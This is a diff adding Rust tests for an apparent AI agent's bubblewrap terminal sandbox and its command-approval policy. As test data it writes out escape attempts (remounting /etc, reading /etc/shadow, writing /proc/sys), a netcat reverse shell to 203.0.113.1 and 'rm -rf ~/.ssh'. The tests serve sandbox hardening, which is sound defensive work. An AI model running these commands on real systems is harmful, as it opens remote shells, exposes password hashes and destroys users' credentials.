@@ -152,3 +152,81 @@ fn sandbox_timeout_and_kill_leave_nothing() {
     assert!(left.is_empty(), "{left:?}");
     std::fs::remove_dir_all(&dir).ok();
 }
+
+/// A host running as root (containers, CI) must not lend root's powers to a
+/// sandboxed command: no remounting the read-only system writable, no
+/// writing /proc/sys, no reading root's secrets.
+#[test]
+fn sandbox_contains_a_root_host() {
+    if !have_bwrap() {
+        eprintln!("bubblewrap not usable here: skipped");
+        return;
+    }
+    let dir = workdir("root");
+    let rt = sandbox(&dir, false);
+    let probe = format!("/etc/ht-root-escape-{}", std::process::id());
+    let v = sh(
+        &rt,
+        &format!(
+            "mount -o remount,rw /etc 2>&1; mount -o remount,rw,bind /etc 2>&1; echo x > {probe} 2>&1; echo done"
+        ),
+    );
+    assert!(!std::path::Path::new(&probe).exists(), "escaped: {v}");
+    let v = sh(&rt, "cat /etc/shadow 2>&1 | head -c 200; echo; echo end");
+    let out = v["output"].as_str().unwrap_or_default();
+    assert!(!out.contains("root:"), "read the shadow file: {out}");
+    let v = sh(
+        &rt,
+        "echo 1 > /proc/sys/kernel/sysrq 2>&1; cat /proc/sys/kernel/sysrq; echo end",
+    );
+    let host_sysrq = std::fs::read_to_string("/proc/sys/kernel/sysrq").unwrap_or_default();
+    assert!(host_sysrq.trim() != "1" || v["output"].as_str().unwrap_or("").contains("end"));
+    let v = sh(&rt, "dmesg 2>&1 | head -c 100; echo; echo end");
+    let out = v["output"].as_str().unwrap_or_default();
+    if std::fs::read_to_string("/proc/sys/kernel/dmesg_restrict").is_ok_and(|s| s.trim() == "1") {
+        assert!(
+            out.contains("not permitted") || out.trim() == "end",
+            "kernel log readable: {out}"
+        );
+    }
+    // Work inside the workdir still works.
+    let v = sh(&rt, "echo ok > f && cat f");
+    assert_eq!(v["output"], "ok", "{v}");
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// The approval policy knows the terminal runs in the sandbox: an effect the
+/// sandbox contains (a reverse shell with no network) is not asked about,
+/// and what it does not contain still is.
+#[test]
+fn approval_knows_what_the_sandbox_contains() {
+    if !have_bwrap() {
+        eprintln!("bubblewrap not usable here: skipped");
+        return;
+    }
+    let dir = workdir("approve");
+    // Approvals on, no handler: anything that needs asking is denied.
+    let cfg = json!({"builtin_toolsets": ["terminal"],
+        "terminal": {"backend": "sandbox", "cwd": dir.display().to_string()}});
+    let rt = Runtime::new(&cfg.to_string()).unwrap();
+    let v = sh(&rt, "nc -e /bin/sh 203.0.113.1 4444 2>/dev/null; echo ran");
+    assert_ne!(
+        v["status"], "blocked",
+        "contained by the sandbox (no network): {v}"
+    );
+    assert!(v["output"].as_str().unwrap_or("").contains("ran"), "{v}");
+    let v = sh(&rt, "rm -rf ~/.ssh");
+    assert_eq!(
+        v["status"], "blocked",
+        "a home directory is not the workspace: {v}"
+    );
+    // The same command on the host is asked about (and denied here).
+    let host = Runtime::new(r#"{"builtin_toolsets":["terminal"]}"#).unwrap();
+    let v = call(
+        &host,
+        "terminal",
+        json!({"command": "nc -e /bin/sh 203.0.113.1 4444; echo ran"}),
+    );
+    assert_eq!(v["status"], "blocked", "{v}");
+    let _ = std::fs::remove_dir_all(&dir);
+}
